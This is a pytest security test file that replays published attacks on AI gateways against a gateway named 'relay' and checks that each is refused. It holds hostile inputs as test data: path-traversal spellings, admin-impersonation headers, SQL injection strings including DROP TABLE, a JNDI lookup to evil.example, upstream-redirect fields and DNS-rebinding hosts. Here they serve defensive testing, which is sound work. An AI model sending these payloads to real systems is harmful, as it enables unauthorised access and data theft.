"""Attacks on other AI gateways that were published in 2024 to 2026, made on this one.

Each test names what went wrong there. None of the requests may read, change, spend or call.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from relay.core.paths import API
from relay.registry.load import ConfigError
from relay.server.listen import CannotListen, listen, require_loopback
from relay.surfaces.openapi import OPERATIONS
from tests.conftest import StartRelay
from tests.ledger.test_ledger import rows
from tests.relays import Relay, canary, configured, provider
from tests.test_security import send_raw
from tests.upstream.raw import RawUpstream, ok

ADMIN, ONE, OTHER = canary("incident-admin"), canary("incident-one"), canary("incident-other")
CLIENTS = {"one": {"key": ONE, "providers": ["openai"], "models": ["gpt-5-mini"]}, "other": {"key": OTHER}}
MANAGEMENT = [(each.method.upper(), each.path.replace("…", API)) for each in OPERATIONS if each.access == "management"]
PLACES = ["Authorization: Bearer {}", "Authorization: {}", "x-relay-key: {}", "x-api-key: {}", "api-key: {}", "x-goog-api-key: {}", "xi-api-key: {}", "cf-aig-authorization: Bearer {}"]
ANSWER = b'{"id": "x", "model": "gpt-5-mini", "usage": {"prompt_tokens": 1, "completion_tokens": 1}}'


@pytest.fixture(params=["token", "local"])
async def relay(request: pytest.FixtureRequest, start: StartRelay, raw: RawUpstream, sqlite_setting: str) -> Relay:
    """Two tenants on one relay, with a token of management and without."""
    access = {"mode": "required"} | ({"admin_token": ADMIN} if request.param == "token" else {})
    raw.plays(ok(ANSWER, "Content-Type: application/json"))
    ledger = {"bodies": "on"}
    return await start({"access": access, "clients": CLIENTS, "database": sqlite_setting, "ledger": ledger}, openai=provider(raw.url))


async def managed(relay: Relay) -> dict[str, Any]:
    """Everything that an attack might have changed, read by the operator."""
    headers = {"Authorization": f"Bearer {ADMIN}"} if relay.gateway.management.has_tokens else {}
    found = {}
    for path in ("keys", "clients", "audit", "logs?limit=500"):
        status, _, body = await relay.call("GET", f"{relay.url}{API}/{path}", headers=headers)
        assert status == 200
        found[path] = json.loads(body)
    return found


def raw_request(method: str, target: str, *lines: str, body: bytes = b"", host: str = "localhost") -> bytes:
    head = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", f"Content-Length: {len(body)}", *lines, "", ""]
    return "\r\n".join(head).encode("utf-8") + body


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


async def call_once(relay: Relay, key: str) -> str:
    """Make one call of a tenant. Returns its id."""
    body = b'{"model": "gpt-5-mini", "messages": [{"role": "user", "content": "secret of the tenant"}]}'
    _, headers, _ = await relay.call("POST", relay.path("openai", "chat/completions"), data=body, headers={"x-relay-key": key, "content-type": "application/json"})
    await rows(relay)
    return str(headers["cf-aig-log-id"])


# --- an admin route reached by a client's key


async def test_no_route_of_management_takes_a_clients_key(relay: Relay) -> None:
    """LiteLLM and New API had routes for administrators that any valid key opened."""
    before = await managed(relay)
    for method, path in MANAGEMENT:
        path = path.replace("{id}", "000000000000").replace("{name}", "one").replace("{side}", "response")
        body = json.dumps({"client": "one", "record": {}}).encode() if method in ("POST", "PUT", "PATCH") else b""
        for place in PLACES:
            answer = await send_raw(relay, raw_request(method, path, place.format(ONE), body=body))
            assert status_of(answer) in (401, 403, 404) and ONE.encode() not in answer, place
            assert path == "/" or status_of(answer) != 404
    assert await managed(relay) == before


DISGUISES = [
    f"{API}/providers/openai/../../keys", f"{API}/providers/openai/%2e%2e/%2e%2e/keys", f"{API}/providers/openai/..%2f..%2fkeys", f"/{API}/keys", f"{API}//keys", f"{API}/./keys",
    f"{API}/Keys", f"{API}/keys/", f"{API}/keys;x", f"{API}/%6beys", f"{API}/providers/%2e%2e/keys", f"{API}/ws/../keys", f"http://localhost{API}/keys", f"{API}/keys%00", f"{API}/keys%3fx", f"{API}\\keys",
]  # fmt: skip


async def test_no_spelling_of_a_path_reaches_management_with_a_clients_key(relay: Relay, raw: RawUpstream) -> None:
    for target in DISGUISES:
        for method in ("GET", "POST", "DELETE"):
            answer = await send_raw(relay, raw_request(method, target, f"x-relay-key: {ONE}"))
            assert status_of(answer) in (400, 401, 403, 404, 405), answer[:200]
        assert raw.connections == 0


OVERRIDES = ["X-Original-URL: {}/keys", "X-Rewrite-URL: {}/keys", "X-HTTP-Method-Override: DELETE", "X-Forwarded-Prefix: {}", "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "X-Remote-User: admin", "X-Admin: true", "X-User-Role: proxy_admin"]


async def test_no_header_makes_a_client_an_administrator(relay: Relay) -> None:
    for header in OVERRIDES:
        for path in ("keys", "logs"):
            answer = await send_raw(relay, raw_request("GET", f"{API}/{path}", header.format(API), f"Authorization: Bearer {ONE}"))
            assert status_of(answer) == 403 and b"management_denied" in answer


# --- a key that widens itself


async def test_a_key_cannot_widen_itself_or_make_another(relay: Relay) -> None:
    """LiteLLM let the owner of a key change its own models, budget and role."""
    before = await managed(relay)
    attempts: list[tuple[str, str, Any]] = [
        ("PUT", "clients/one", {}), ("PUT", "clients/one", {"models": ["*"], "providers": []}), ("POST", "keys", {"client": "one"}), ("POST", "keys", {"client": "admin", "record": {}}),
        ("POST", "clients/one/rotate", {"grace_s": 86400}), ("DELETE", "clients/other", None), ("POST", "providers/reload", None), ("PATCH", "logs/x", {"metadata": {"team": "x"}}),
    ]  # fmt: skip
    for method, path, body in attempts:
        data = json.dumps(body).encode() if body is not None else None
        for headers in ({"Authorization": f"Bearer {ONE}"}, {"x-relay-key": ONE, "Authorization": "Bearer x"}):
            status, answered, _ = await relay.call(method, f"{relay.url}{API}/{path}", data=data, headers=headers)
            assert status in (401, 403) and answered["x-relay-error"] == "management_denied"
    assert await managed(relay) == before


async def test_nothing_in_a_call_widens_the_rights_of_its_key(relay: Relay, raw: RawUpstream) -> None:
    """Fields that other gateways took from the request: the role, the key's models, the target."""
    widening = {"metadata": {"user_role": "proxy_admin", "client": "other"}, "user": "other", "api_base": "https://evil.example", "base_url": "https://evil.example", "user_config": {"providers": []}}
    headers = {"x-relay-key": ONE, "content-type": "application/json", "cf-aig-metadata": '{"client": "other", "team": "admins"}', "x-client": "other", "x-litellm-api-base": "https://evil.example"}
    for name, path in (("anthropic", "messages"), ("other", "x")):
        status, _, _ = await relay.call("POST", relay.path(name, path), json={"model": "gpt-5-mini"} | widening, headers=headers)
        assert status in (403, 404)
    status, _, _ = await relay.call("POST", relay.path("openai", "chat/completions"), json={"model": "gpt-5-mini", "models": ["*"]}, headers=headers)
    assert status == 403
    status, _, _ = await relay.call("POST", relay.path("openai", "chat/completions"), json={"model": "gpt-5-mini"} | widening, headers=headers)
    assert status == 200 and [each.header("Host") for each in raw.arrived] == [[raw.url.removeprefix("http://")]]
    assert [row["client"] for row in await rows(relay)] == ["one"] * 4


# --- another tenant's row by id


async def test_a_client_never_reads_a_call_of_another_by_its_id(relay: Relay) -> None:
    """New API served any user's results by the id of the task (CVE-2026-30886)."""
    id = await call_once(relay, OTHER)
    for path in (f"logs/{id}", f"logs/{id}/request", f"logs/{id}/response", "logs?client=other", "logs/export", "usage?by=client", "sessions", "audit"):
        for key in (ONE, OTHER):
            status, _, body = await relay.call("GET", f"{relay.url}{API}/{path}", headers={"Authorization": f"Bearer {key}"})
            assert status == 403 and b"secret of the tenant" not in body and id.encode() not in body
    assert (await relay.call("DELETE", f"{relay.url}{API}/logs/{id}", headers={"x-api-key": ONE}))[0] == 403
    assert len((await managed(relay))["logs?limit=500"]["logs"]) == 1


PATTERNS = ["%25", "%25%25%25", "_", "%25other%25", "*", "' OR '1'='1"]
async def test_a_pattern_in_a_filter_is_plain_text(relay: Relay) -> None:
    """New API passed wildcards on to LIKE, which read every row (CVE-2026-25591)."""
    await call_once(relay, OTHER)
    headers = {"Authorization": f"Bearer {ADMIN}"} if relay.gateway.management.has_tokens else {}
    for value in PATTERNS:
        for name in ("client", "model", "provider", "metadata.team"):
            status, _, body = await relay.call("GET", f"{relay.url}{API}/logs?{name}={value}", headers=headers)
            assert status == 200 and json.loads(body)["logs"] == []


# --- SQL through Authorization


@pytest.fixture
def statements() -> Iterator[list[str]]:
    """Every statement that any database gets, with its parameters."""
    seen: list[str] = []

    def note(_connection: Any, _cursor: Any, statement: str, parameters: Any, *_: Any) -> None:
        seen.append(f"{statement} {parameters!r}")

    sa.event.listen(sa.Engine, "before_cursor_execute", note)
    yield seen
    sa.event.remove(sa.Engine, "before_cursor_execute", note)


INJECTIONS = [
    "' OR '1'='1", "rk_' OR 1=1 --", "rk_x'; DROP TABLE client_keys; --", 'rk_" UNION SELECT * FROM clients --', "rt_' OR ''='", "ek_rt_x') OR 1=1 --", "rk_%' OR id LIKE '%", "sk-1234' AND sleep(5) --",
    "rk_\\'; --", "rk_" + "'" * 4000, "rk_\u02bc OR 1=1", "${jndi:ldap://evil.example/x}", "{{7*7}}", "rk_x\t' OR 1=1",
]  # fmt: skip


async def test_a_key_that_is_sql_reaches_no_database(relay: Relay, raw: RawUpstream, statements: list[str]) -> None:
    """LiteLLM put the Authorization header into a query of its error path (CVE-2026-42208)."""
    for number, text in enumerate(INJECTIONS):
        place = PLACES[number % len(PLACES)]
        for target in (f"{API}/providers/openai/chat/completions", f"{API}/keys", f"{API}/ws/openai"):
            answer = await send_raw(relay, raw_request("POST", target, place.format(text), body=b"{}"))
            assert status_of(answer) in (400, 401, 403, 405, 426, 429), answer[:200]
            assert f"{API}/keys" != target or relay.gateway.management.has_tokens or status_of(answer) in (400, 403, 429)
    await rows(relay)
    assert raw.connections == 0
    touching = [each for each in statements if any(table in each for table in ("client_keys", "FROM clients", "tickets"))]
    assert touching == []
    assert not [each for each in statements if any(text[:12] in each for text in INJECTIONS)]


# --- a foreign Host


HOSTS = ["evil.example", "localhost.evil.example", "127.0.0.1.evil.example", "evil.example:8787", "localhost@evil.example", "[::1]evil.example", "metadata.google.internal", ""]
async def test_a_page_that_rebinds_its_name_reaches_nothing(relay: Relay, raw: RawUpstream) -> None:
    """Local gateways and model servers were driven by pages whose name resolved to 127.0.0.1."""
    for host in HOSTS:
        for method, path in (("GET", f"{API}/keys"), ("POST", f"{API}/keys"), ("GET", f"{API}/logs"), ("POST", f"{API}/providers/reload"), ("GET", "/metrics"), ("GET", "/")):
            for lines in ((), (f"Origin: http://{host}",), ("X-Forwarded-Host: localhost",)):
                answer = await send_raw(relay, raw_request(method, path, *lines, host=host))
                assert status_of(answer) in (400, 401, 403, 404), (path, lines, answer[:200])
        answer = await send_raw(relay, raw_request("POST", f"{API}/providers/openai/chat/completions", host=host, body=b"{}"))
        assert status_of(answer) in (400, 401) and raw.connections == 0


# --- default and empty secrets


@pytest.mark.parametrize("token", ["admin", "sk-1234", "changeme", "password123456", "1234567" * 3, "a" * 24, "abc" * 8])
def test_a_well_known_or_weak_token_is_refused_at_start(tmp_path: Path, token: str) -> None:
    """Thousands of gateways were found with the password of their installation guide."""
    with pytest.raises(ConfigError, match="admin_token"):
        configured(tmp_path, {"access": {"admin_token": token}})


@pytest.mark.parametrize("value", ["", "   ", "your_admin_token", "<token>", "changeme"])
async def test_an_empty_secret_switches_tokens_off_and_opens_nothing(start: StartRelay, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    """New API accepted every webhook when its secret was empty (CVE-2026-41432)."""
    monkeypatch.setenv("RELAY_ADMIN_TOKEN", value)
    relay = await start({"access": {"admin_token": "${RELAY_ADMIN_TOKEN:-}"}})
    assert not relay.gateway.management.has_tokens
    for sent in ("Bearer ", f"Bearer {value}", "Bearer", "Bearer null", "Bearer undefined", "", "Basic Og=="):
        answer = await send_raw(relay, raw_request("GET", f"{API}/keys", f"Authorization: {sent}", "X-Forwarded-For: 192.0.2.1"))
        assert status_of(answer) == 403 and b"management_not_local" in answer, sent


def test_without_keys_or_tokens_the_relay_does_not_listen_beyond_loopback(tmp_path: Path) -> None:
    """Scans found thousands of open gateways that listened on every address."""
    config, _ = configured(tmp_path, {"server": {"host": "0.0.0.0", "port": 0}})
    with pytest.raises(CannotListen):
        listen(config, require_loopback)
